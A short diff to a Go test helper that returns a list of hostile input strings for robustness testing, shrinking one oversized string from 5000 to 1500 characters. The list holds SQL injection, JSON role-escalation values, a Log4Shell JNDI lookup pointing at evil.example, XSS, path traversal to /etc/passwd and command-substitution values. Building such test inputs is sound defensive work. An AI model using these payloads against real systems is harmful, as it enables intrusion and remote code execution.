@@ -16,7 +16,7 @@ func hostileTexts() []string {
 		"' OR '1'='1", `'; DROP TABLE users; --`, `" OR ""="`, "%' --", `","role":"admin`, `\","admin":true,"x":"`,
 		"${jndi:ldap://evil.example/a}",
 		"{{7*7}}", "%s%n%x", "<script>alert(1)</script>", "../../etc/passwd", "$(id)", "`id`", "\u202egnp",
-		"\u200b", "\ufeff", "𝕬𝖑𝖎𝖈𝖊", "😀", strings.Repeat("长", 5000),
+		"\u200b", "\ufeff", "𝕬𝖑𝖎𝖈𝖊", "😀", strings.Repeat("长", 1500),
 	}
 }
 
